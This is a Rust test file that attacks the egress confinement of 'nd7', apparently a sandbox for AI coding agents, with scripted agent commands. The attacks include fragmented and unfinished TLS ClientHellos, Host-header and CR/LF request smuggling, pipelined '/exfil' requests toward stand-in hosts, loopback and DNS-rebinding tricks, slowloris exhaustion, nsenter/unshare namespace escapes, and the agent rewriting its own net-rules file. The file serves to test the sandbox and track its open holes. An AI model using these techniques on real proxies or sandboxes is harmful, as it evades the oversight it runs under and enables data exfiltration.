//! Attacks on the egress confinement (issue 31), each tried as the ordinary
//! account by an agent script under `nd7 run`, against listeners on the
//! host's loopback (the "world"). A test whose attack succeeds today is
//! `#[ignore = "open: …"]`: it asserts what must hold, so it fails until
//! the hole is closed (`--ignored` shows it).
#![cfg(target_os = "linux")]

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::runs::{X, lines, run_chains, run_dirs};
use crate::world::*;

/// A listener on the host's loopback that keeps every byte it is sent
/// and, once its client has sent something and then been idle for a
/// second (or closed), answers `reply`.
struct Sink {
    port: u16,
    got: Arc<Mutex<Vec<u8>>>,
}

impl Sink {
    fn on(reply: &'static [u8]) -> Sink {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind a test listener");
        let port = listener.local_addr().expect("addr").port();
        let got = Arc::new(Mutex::new(Vec::new()));
        let kept = got.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut s) = stream else { continue };
                let kept = kept.clone();
                std::thread::spawn(move || {
                    let _ = s.set_read_timeout(Some(Duration::from_secs(1)));
                    let mut buf = [0u8; 8192];
                    let mut any = false;
                    loop {
                        match s.read(&mut buf) {
                            Ok(0) => break,
                            Ok(n) => {
                                any = true;
                                kept.lock().expect("lock").extend_from_slice(&buf[..n]);
                            }
                            // Idle: answer once something has come.
                            Err(_) if any => break,
                            Err(e)
                                if e.kind() == std::io::ErrorKind::WouldBlock
                                    || e.kind() == std::io::ErrorKind::TimedOut => {}
                            Err(_) => break,
                        }
                    }
                    let _ = s.write_all(reply);
                });
            }
        });
        Sink { port, got }
    }

    fn received(&self) -> String {
        String::from_utf8_lossy(&self.got.lock().expect("lock")).into_owned()
    }
}

const HTTP_OK: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n";

fn grants(w: &World, text: &str) {
    std::fs::create_dir_all(w.home().join(".nd7")).expect("mkdir ~/.nd7");
    std::fs::write(w.home().join(".nd7/grants"), text).expect("write grants");
}

/// Writes `bytes` into the project as `name`, for the agent to send.
fn put(w: &World, name: &str, bytes: &[u8]) {
    std::fs::write(w.proj().join(name), bytes).expect("write a request");
}

/// Bash for the agent: `raw NAME FILE` sends FILE to the proxy and says
/// `NAME:yes` when the answer carries `ok`; `tunnel NAME HOST:PORT FILE`
/// opens a CONNECT tunnel, sends FILE through it and says `NAME:yes` when
/// the far end answers `ok`.
const SEND: &str = r#"P=${HTTP_PROXY##*:}
raw() {
  exec 3<>/dev/tcp/127.0.0.1/$P || { echo "$1:no"; return; }
  cat "$2" >&3
  if timeout 20 cat <&3 | grep -q '^ok'; then echo "$1:yes"; else echo "$1:no"; fi
  exec 3<&-
}
tunnel() {
  exec 3<>/dev/tcp/127.0.0.1/$P || { echo "$1:no"; return; }
  printf 'CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' "$2" "$2" >&3
  read -r st <&3; read -r _ <&3
  case "$st" in *" 200 "*) ;; *) echo "$1:no"; exec 3<&-; return;; esac
  cat "$3" >&3
  if read -t 20 -r reply <&3 && [ "${reply%$'\r'}" = ok ]; then echo "$1:yes"; else echo "$1:no"; fi
  exec 3<&-
}
status() {
  exec 3<>/dev/tcp/127.0.0.1/$P || { echo "$1:none"; return; }
  printf 'CONNECT %s HTTP/1.1\r\n\r\n' "$2" >&3
  read -t 20 -r st <&3
  echo "$1:${st:9:3}"
  exec 3<&-
}
"#;

/// A TLS ClientHello naming `host`, with a padding extension of `pad`
/// bytes after the server name, as one handshake message.
fn hello_message(host: &str, pad: usize) -> Vec<u8> {
    let name = host.as_bytes();
    let mut sni = vec![0u8];
    sni.extend((name.len() as u16).to_be_bytes());
    sni.extend(name);
    let mut ext = Vec::new();
    ext.extend(0u16.to_be_bytes());
    ext.extend(((sni.len() + 2) as u16).to_be_bytes());
    ext.extend((sni.len() as u16).to_be_bytes());
    ext.extend(&sni);
    if pad > 0 {
        ext.extend(21u16.to_be_bytes());
        ext.extend((pad as u16).to_be_bytes());
        ext.extend(vec![0u8; pad]);
    }
    let mut body = vec![3, 3];
    body.extend([0u8; 32]);
    body.extend([0, 0, 2, 0x13, 0x01, 1, 0]);
    body.extend((ext.len() as u16).to_be_bytes());
    body.extend(&ext);
    let mut hs = vec![1];
    hs.extend(&(body.len() as u32).to_be_bytes()[1..]);
    hs.extend(&body);
    hs
}

/// `message` in TLS handshake records of at most `size` bytes each (a
/// client may fragment a handshake message across records: RFC 8446 5.1).
fn records(message: &[u8], size: usize) -> Vec<u8> {
    let mut out = Vec::new();
    for part in message.chunks(size) {
        out.extend([22, 3, 1]);
        out.extend((part.len() as u16).to_be_bytes());
        out.extend(part);
    }
    out
}

/// The SNI check in `Proxy::tunnel` (`first_hello`): a ClientHello naming
/// another host than the tunnel's must be refused however it is framed.
/// The control (one record) is refused; the same hello fragmented over two
/// records, larger than the proxy's 16 KiB look-ahead, passes unread: the
/// proxy gives up on "cut short" at `HEAD_MAX` and forwards the bytes.
/// (Fragments that stay under 16 KiB pass too, after `HEAD_TIME`, 10 s.)
#[test]
fn a_fragmented_client_hello_is_held_to_the_tunnels_host() {
    let w = World::new();
    let whole = Sink::on(b"ok\n");
    let split = Sink::on(b"ok\n");
    grants(
        &w,
        &format!(
            "net localhost:{}\nnet localhost:{}\n",
            whole.port, split.port
        ),
    );
    put(
        &w,
        "hello-whole",
        &records(&hello_message("evil.test", 0), 16384),
    );
    put(
        &w,
        "hello-split",
        &records(&hello_message("evil.test", 17000), 16384),
    );
    let body = format!(
        "{SEND}tunnel whole localhost:{} hello-whole\ntunnel split localhost:{} hello-split\n",
        whole.port, split.port
    );
    let out = w.run_agent(&body);
    assert!(!whole.received().contains("evil.test"));
    assert!(
        !split.received().contains("evil.test"),
        "a hello naming evil.test reached the tunnel's host: {:?}",
        lines(&out)
    );
    assert_eq!(
        lines(&out),
        ["whole:no", "split:no"],
        "{}",
        text(&out.stderr)
    );
}

/// The Host check in `Proxy::serve_request`: it reads the first Host
/// header only, and only when it parses as `HOST[:PORT]`. A second Host
/// header, or one with a port that is no number, is forwarded unchecked.
#[test]
fn every_host_header_names_the_host_it_is_sent_to() {
    let w = World::new();
    let dup = Sink::on(HTTP_OK);
    let odd = Sink::on(HTTP_OK);
    let ctl = Sink::on(HTTP_OK);
    grants(
        &w,
        &format!(
            "net localhost:{}\nnet localhost:{}\nnet localhost:{}\n",
            dup.port, odd.port, ctl.port
        ),
    );
    let req = |port: u16, hosts: &str| {
        format!("GET http://localhost:{port}/ HTTP/1.1\r\n{hosts}\r\n").into_bytes()
    };
    put(&w, "req-ctl", &req(ctl.port, "Host: evil-ctl.test\r\n"));
    put(
        &w,
        "req-dup",
        &req(dup.port, "Host: localhost\r\nHost: evil-dup.test\r\n"),
    );
    put(&w, "req-odd", &req(odd.port, "Host: evil-odd.test:x\r\n"));
    let body = format!("{SEND}raw control req-ctl\nraw second req-dup\nraw unparsed req-odd\n");
    let out = w.run_agent(&body);
    let got = lines(&out);
    assert_eq!(
        got.first().map(String::as_str),
        Some("control:no"),
        "{}",
        text(&out.stderr)
    );
    assert!(!ctl.received().contains("evil"));
    assert!(
        !dup.received().contains("evil-dup.test"),
        "a second Host header was forwarded: {got:?}"
    );
    assert!(
        !odd.received().contains("evil-odd.test"),
        "a Host header that does not parse was forwarded: {got:?}"
    );
}

/// A bare LF (or CR) inside a header line ends the line to many servers,
/// and the proxy forwarded each line as sent: a Host header, or a whole
/// second request, to a host it never judged went up in the allowed one's
/// connection (ADR-0141).
#[test]
fn a_line_break_inside_a_header_line_carries_nothing_up() {
    let w = World::new();
    let sink = Sink::on(HTTP_OK);
    let p = sink.port;
    grants(&w, &format!("net localhost:{p}\n"));
    put(
        &w,
        "req-lf",
        format!(
            "GET http://localhost:{p}/ HTTP/1.1\r\nHost: localhost\r\n\
             X: 1\n\nPOST /exfil HTTP/1.1\nHost: evil-lf.test\r\n\r\n"
        )
        .as_bytes(),
    );
    put(
        &w,
        "req-cr",
        format!("GET http://localhost:{p}/ HTTP/1.1\r\nHost: localhost\r\nX: 1\rHost: evil-cr.test\r\n\r\n")
            .as_bytes(),
    );
    let out = w.run_agent(&format!("{SEND}raw lf req-lf\nraw cr req-cr\n"));
    assert_eq!(lines(&out), ["lf:no", "cr:no"], "{}", text(&out.stderr));
    let got = sink.received();
    assert!(!got.contains("evil-"), "an unjudged Host went up: {got:?}");
}

/// A plain request is one per connection (ADR-0106), yet the bytes after
/// its head go up verbatim: a second request, with any Host header, rides
/// in the first one's connection, unjudged and unrecorded. (A server that
/// honours the `Connection: close` the proxy adds ignores it; one that
/// pipelines does not.)
#[test]
fn a_second_request_in_one_connection_is_not_forwarded() {
    let w = World::new();
    let sink = Sink::on(HTTP_OK);
    let p = sink.port;
    grants(&w, &format!("net localhost:{p}\n"));
    put(
        &w,
        "req-two",
        format!(
            "GET http://localhost:{p}/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\n\r\n\
             POST /exfil HTTP/1.1\r\nHost: evil-two.test\r\nContent-Length: 6\r\n\r\nsecret"
        )
        .as_bytes(),
    );
    let out = w.run_agent(&format!("{SEND}raw two req-two\n"));
    assert_eq!(lines(&out), ["two:yes"], "{}", text(&out.stderr));
    let got = sink.received();
    assert!(
        !got.contains("evil-two.test"),
        "the second request went up: {got:?}"
    );
}

/// Host forms in CONNECT: numeric IPv4 spellings, IPv6 and mapped forms,
/// userinfo and `@` tricks, a name below localhost. Only `localhost` itself
/// (any case, a trailing dot) is granted; everything else is refused (403)
/// or not a request (400), and nothing but the granted forms reaches the
/// listener.
#[test]
fn connect_host_forms_reach_only_what_is_granted() {
    let w = World::new();
    let sink = Sink::on(b"");
    let p = sink.port;
    grants(&w, &format!("net localhost:{p}\n"));
    let forms = [
        ("plain", format!("localhost:{p}"), "200"),
        ("upper", format!("LOCALHOST:{p}"), "200"),
        ("dot", format!("localhost.:{p}"), "200"),
        ("decimal", format!("2130706433:{p}"), "403"),
        ("hex", format!("0x7f.1:{p}"), "403"),
        ("short", format!("127.1:{p}"), "403"),
        ("v4", format!("127.0.0.1:{p}"), "403"),
        ("v6", format!("[::1]:{p}"), "403"),
        ("mapped", format!("[::ffff:127.0.0.1]:{p}"), "403"),
        ("sub", format!("x.localhost:{p}"), "403"),
        ("userinfo", format!("evil.test@localhost:{p}"), "400"),
        ("at-port", format!("localhost:{p}@evil.test:443"), "400"),
        ("zone", format!("[fe80::1%lo]:{p}"), "400"),
        ("percent", format!("localhost%2e:{p}"), "400"),
    ];
    let mut body = SEND.to_string();
    for (name, target, _) in &forms {
        body.push_str(&format!("status {name} '{target}'\n"));
    }
    let out = w.run_agent(&body);
    let want: Vec<String> = forms
        .iter()
        .map(|(name, _, code)| format!("{name}:{code}"))
        .collect();
    assert_eq!(lines(&out), want, "{}", text(&out.stderr));
}

/// Every connection, allowed or refused, is a `net` entry (issue 31, 4).
/// A request the proxy cannot parse is answered 400 and written nowhere:
/// the agent can probe the proxy off the record.
#[test]
fn a_request_the_proxy_cannot_parse_is_on_the_record() {
    let w = World::new();
    put(
        &w,
        "req-bad",
        b"CONNECT evil\x1b[31m.test:443 HTTP/1.1\r\n\r\n",
    );
    let out = w.run_agent(&format!("{SEND}raw bad req-bad\n"));
    assert_eq!(lines(&out), ["bad:no"], "{}", text(&out.stderr));
    let net: Vec<_> = run_chains(&w)
        .pop()
        .expect("a run")
        .into_iter()
        .filter(|e| e["kind"] == "net")
        .collect();
    assert_eq!(net.len(), 1, "one connection, one entry: {net:?}");
}

/// Text the agent chose is inert where nd7 prints it: a host with an
/// escape sequence never reaches `nd7 run`'s stderr or `nd7 show` raw.
#[test]
fn a_host_the_agent_chose_is_inert_in_every_print() {
    let w = World::new();
    put(
        &w,
        "req-esc",
        b"CONNECT evil\x1b[31m.test:443 HTTP/1.1\r\n\r\n",
    );
    put(
        &w,
        "req-nl",
        b"GET http://evil.test/ HTTP/1.1\r\nHost: a\x1b]0;x\x07.test\r\n\r\n",
    );
    let body = format!("{SEND}raw esc req-esc\nraw nl req-nl\nstatus name 'evil.test:443'\n");
    let out = w.run_agent(&body);
    assert_eq!(
        lines(&out),
        ["esc:no", "nl:no", "name:403"],
        "{}",
        text(&out.stderr)
    );
    assert!(!out.stderr.contains(&0x1b), "{}", text(&out.stderr));
    let run = run_dirs(&w).pop().expect("a run");
    let show = w
        .nd7(&["show", "--full", &run.display().to_string()])
        .output()
        .expect("nd7 show");
    assert!(
        text(&show.stdout).contains("evil.test"),
        "{}",
        text(&show.stdout)
    );
    assert!(!show.stdout.contains(&0x1b) && !show.stdout.contains(&0x07));
}

/// The agent's API keeps a way out (`Limits::reserve`), yet connections
/// that never finish their head count against `Limits::pending` (512) for
/// every host alike: the agent's commands hold 600 open, sending a byte
/// every few seconds (slowloris, under `HEAD_TIME`), and the agent's own
/// API request is turned away with 503.
#[test]
fn slow_heads_do_not_starve_the_agents_api() {
    let w = World::new();
    let api = Sink::on(HTTP_OK);
    let body = r#"
trap '' PIPE
P=${HTTP_PROXY##*:}
fds=()
for i in $(seq 600); do exec {fd}<>/dev/tcp/127.0.0.1/$P || break; printf C >&$fd; fds+=($fd); done
echo "opened:${#fds[@]}"
( trap '' PIPE; while :; do for fd in "${fds[@]}"; do printf O >&$fd 2>/dev/null; done; sleep 3; done ) &
drip=$!
curl -sf -o /dev/null --max-time 30 "$ANTHROPIC_BASE_URL/v1/messages" && echo api:yes || echo api:no
kill $drip
"#;
    let claude = crate::runs::fake_claude(&w, body);
    let out = w
        .nd7(&["run", &claude])
        .env(
            "ANTHROPIC_BASE_URL",
            format!("http://127.0.0.1:{}", api.port),
        )
        .output()
        .expect("nd7 run");
    assert_eq!(
        lines(&out),
        ["opened:600", "api:yes"],
        "{}",
        text(&out.stderr)
    );
}

/// The reserve is kept for the agent's API *host*, not for the agent: its
/// commands may reach that host too, so they take the 512 tunnels and the
/// 64 kept back alike, and the agent's own next API request gets 503.
#[test]
fn tunnels_to_the_api_host_do_not_use_up_its_reserve() {
    let w = World::new();
    let api = TcpListener::bind("127.0.0.1:0").expect("bind");
    let api_port = api.local_addr().expect("addr").port();
    // The API: answers a request once its head has come; a tunnel that
    // sends nothing is held open.
    std::thread::spawn(move || {
        for s in api.incoming().flatten() {
            std::thread::spawn(move || {
                let mut s = s;
                let mut got = Vec::new();
                let mut buf = [0u8; 4096];
                while let Ok(n) = s.read(&mut buf) {
                    if n == 0 {
                        return;
                    }
                    got.extend_from_slice(&buf[..n]);
                    if got.windows(4).any(|w| w == b"\r\n\r\n") {
                        let _ = s.write_all(HTTP_OK);
                        return;
                    }
                }
            });
        }
    });
    let body = format!(
        r#"
P=${{HTTP_PROXY##*:}}
held=0
for i in $(seq 600); do
  exec {{fd}}<>/dev/tcp/127.0.0.1/$P || break
  printf 'CONNECT 127.0.0.1:{api_port} HTTP/1.1\r\n\r\n' >&$fd
  read -r st <&$fd
  case "$st" in *" 200 "*) read -r _ <&$fd; held=$((held+1));; *) exec {{fd}}<&-;; esac
done
echo "held:$held"
curl -sf -o /dev/null --max-time 30 "$ANTHROPIC_BASE_URL/v1/messages" && echo api:yes || echo api:no
"#
    );
    let claude = crate::runs::fake_claude(&w, &body);
    let out = w
        .nd7(&["run", &claude])
        .env("ANTHROPIC_BASE_URL", format!("http://127.0.0.1:{api_port}"))
        .output()
        .expect("nd7 run");
    let got = lines(&out);
    assert!(got.contains(&"api:yes".to_string()), "{got:?}");
}

/// Ways round the namespace rather than through the proxy: a unix socket a
/// program outside the session bound (in the home, in the project) that
/// relays to the world; another process's network namespace through
/// `/proc/PID/ns/net`; a command started through the exit (`nd7-exec`),
/// which must be inside the namespace too.
#[test]
fn no_way_round_the_namespace() {
    let w = World::new();
    let exfil = Sink::on(HTTP_OK);
    let home_sock = w.home().join("relay.sock");
    let proj_sock = w.proj().join("relay.sock");
    let mut relays = Vec::new();
    for path in [&home_sock, &proj_sock] {
        let l = std::os::unix::net::UnixListener::bind(path).expect("bind a relay");
        let _ = std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o777));
        let got = exfil.got.clone();
        relays.push(std::thread::spawn(move || {
            for s in l.incoming().flatten() {
                let mut s = s;
                let mut buf = [0u8; 4096];
                if let Ok(n) = s.read(&mut buf) {
                    got.lock().expect("lock").extend_from_slice(&buf[..n]);
                }
                let _ = s.write_all(HTTP_OK);
            }
        }));
    }
    let e = exfil.port;
    let body = format!(
        r#"{X}
x home-socket curl -sf --max-time 10 --unix-socket '{home}' http://relay/home
x proj-socket curl -sf --max-time 10 --unix-socket '{proj}' http://relay/proj
reached=no
for f in /proc/[0-9]*/ns/net /proc/[0-9]*/task/[0-9]*/ns/net; do
  [ "$(readlink "$f" 2>/dev/null)" = "$(readlink /proc/self/ns/net)" ] && continue
  nsenter --net="$f" bash -c 'echo ns > /dev/tcp/127.0.0.1/{e}' 2>/dev/null && reached=yes
done
echo "setns:$reached"
x userns-setns unshare -rn bash -c 'echo u > /dev/tcp/127.0.0.1/{e}'
x exit-direct "$EXEC" 'echo exit > /dev/tcp/127.0.0.1/{e}'
x exit-proxy "$EXEC" 'curl -sf --max-time 10 http://127.0.0.1:{e}/exit'
x net-admin ip link add nd7x0 type dummy
"#,
        home = home_sock.display(),
        proj = proj_sock.display(),
    );
    let out = w.run_agent(&body);
    assert_eq!(
        lines(&out),
        [
            "home-socket:no",
            "proj-socket:no",
            "setns:no",
            "userns-setns:no",
            "exit-direct:no",
            "exit-proxy:no",
            "net-admin:no"
        ],
        "{}",
        text(&out.stderr)
    );
    assert_eq!(exfil.received(), "");
}

/// The Host and SNI checks hold a tunnel to its host only when what it
/// carries is TLS with a server name: plain HTTP through a `CONNECT` (to
/// port 80, say) carries any Host header, and a ClientHello with no server
/// name is let through unread (every client names the host of an https
/// URL; the proxy could refuse a hello that names none for a tunnel opened
/// to a name).
#[test]
fn what_a_tunnel_carries_is_held_to_its_host() {
    let w = World::new();
    let plain = Sink::on(b"ok\n");
    let bare = Sink::on(b"ok\n");
    grants(
        &w,
        &format!(
            "net localhost:{}\nnet localhost:{}\n",
            plain.port, bare.port
        ),
    );
    put(
        &w,
        "req-plain",
        b"GET /exfil HTTP/1.1\r\nHost: evil-tunnel.test\r\n\r\n",
    );
    // A ClientHello with no extensions: no server name at all.
    let mut hello = hello_message("x", 0);
    let cut = hello.len() - (2 + 2 + 2 + 2 + 1 + 2 + 1);
    hello.truncate(cut);
    let len = (hello.len() - 4) as u32;
    hello[1..4].copy_from_slice(&len.to_be_bytes()[1..]);
    put(&w, "hello-bare", &records(&hello, 16384));
    let body = format!(
        "{SEND}tunnel plain localhost:{} req-plain\ntunnel bare localhost:{} hello-bare\n",
        plain.port, bare.port
    );
    let out = w.run_agent(&body);
    let got = lines(&out);
    assert!(
        !plain.received().contains("evil-tunnel.test"),
        "a Host header other than the tunnel's went through it: {got:?}"
    );
    assert_eq!(got, ["plain:no", "bare:no"], "{}", text(&out.stderr));
}

/// The run directory's `net-rules` (read before each connection) and
/// `nd7 allow --net` from inside: the agent finds its run's directory from its
/// ancestors' pids (one is `nd7 run`'s), writes the file directly, through a staged file renamed over it, and through a
/// symlink, and asks nd7 itself; none of it lets the next connection
/// through.
#[test]
fn the_rules_file_is_out_of_the_agents_reach() {
    let w = World::new();
    let sink = Sink::on(HTTP_OK);
    let p = sink.port;
    let body = format!(
        r#"{X}
pids=""; q=$$
while [ "$q" -gt 1 ]; do pids="$pids $q"; q=$(awk '{{print $4}}' /proc/$q/stat 2>/dev/null || echo 0); done
echo "ancestors:$pids"
ok=no
for q in $pids; do
  d="$HOME_DIR/.nd7/runs/$q"
  echo "allow localhost:{p}" >> "$d/net-rules" 2>/dev/null && ok=yes
  echo "allow localhost:{p}" > "$d/.net-rules.new" 2>/dev/null && mv "$d/.net-rules.new" "$d/net-rules" 2>/dev/null && ok=yes
  echo "allow localhost:{p}" > "$PWD/mine" && ln -sf "$PWD/mine" "$d/net-rules" 2>/dev/null && ok=yes
done
echo "written:$ok"
x allow "$ND7" allow --net localhost:{p}
x exit-allow "$EXEC" "'$ND7' allow --net localhost:{p}"
x reached curl -sf http://localhost:{p}/
"#
    );
    let out = w.run_agent(&body);
    let err = text(&out.stderr);
    let run_pid = err
        .strip_prefix("nd7 run: run ")
        .and_then(|r| r.split(' ').next())
        .expect("the run's pid");
    let mut got = lines(&out);
    let ancestors = got.remove(0);
    assert!(
        ancestors.split(' ').any(|q| q == run_pid),
        "the agent aimed at its own run's directory: {ancestors} {run_pid}"
    );
    assert_eq!(
        got,
        ["written:no", "allow:no", "exit-allow:no", "reached:no"],
        "{}",
        text(&out.stderr)
    );
    assert_eq!(sink.received(), "");
}

/// Names a rule allows that resolve where they must not (DNS rebinding):
/// every spelling of the host's loopback the proxy could be handed (the
/// unspecified address, which Linux connects to loopback; IPv4-mapped and
/// -compatible IPv6; another 127/8 address), under an exact rule and under
/// a `*.DOMAIN` one. None may reach the loopback listener.
#[test]
fn allowed_names_that_resolve_to_loopback_in_any_spelling_are_refused() {
    let w = World::new();
    let sink = Sink::on(HTTP_OK);
    let p = sink.port;
    let names = [
        ("zero.test", "0.0.0.0"),
        ("mapped.test", "::ffff:127.0.0.1"),
        ("compat.test", "::127.0.0.1"),
        ("other.test", "127.0.0.2"),
        ("a.wild.test", "127.0.0.1"),
        ("six.test", "::1"),
    ];
    let mut grant = format!("net *.wild.test:{p}\n");
    let mut body = SEND.to_string();
    for (name, _) in &names[..4] {
        grant.push_str(&format!("net {name}:{p}\n"));
    }
    grant.push_str(&format!("net six.test:{p}\n"));
    for (name, _) in &names {
        body.push_str(&format!("status {name} {name}:{p}\n"));
    }
    grants(&w, &grant);
    let hosts: Vec<String> = names.iter().map(|(n, a)| format!("{n}={a}")).collect();
    let out = w
        .nd7(&["run", &w.agent(&body)])
        .env("ND7_TEST_HOSTS", hosts.join(","))
        .output()
        .expect("nd7 run");
    let want: Vec<String> = names.iter().map(|(n, _)| format!("{n}:403")).collect();
    assert_eq!(lines(&out), want, "{}", text(&out.stderr));
    assert_eq!(sink.received(), "");
}

/// The other way past `first_hello`: a ClientHello that stops short (its
/// last record not yet sent) is forwarded as it is once the proxy's read
/// times out (`HEAD_TIME`, 10 s), server name and all. The agent sends all
/// but the last 10 bytes and waits for the far end to answer.
#[test]
fn an_unfinished_client_hello_is_not_forwarded_when_the_proxy_stops_waiting() {
    let w = World::new();
    let sink = Sink::on(b"ok\n");
    grants(&w, &format!("net localhost:{}\n", sink.port));
    // Padding after the server name, so that what is held back is padding.
    let message = hello_message("evil.test", 64);
    let (first, _) = message.split_at(message.len() - 10);
    let mut partial = vec![22, 3, 1];
    partial.extend((message.len() as u16).to_be_bytes());
    partial.extend(first);
    put(&w, "hello-partial", &partial);
    let body = format!(
        "{SEND}tunnel partial localhost:{} hello-partial\n",
        sink.port
    );
    let out = w.run_agent(&body);
    assert!(
        !sink.received().contains("evil.test"),
        "an unfinished hello naming evil.test reached the tunnel's host: {:?}",
        lines(&out)
    );
    assert_eq!(
        lines(&out),
        ["partial:no"],
        "{} {:?}",
        text(&out.stderr),
        sink.received()
    );
}
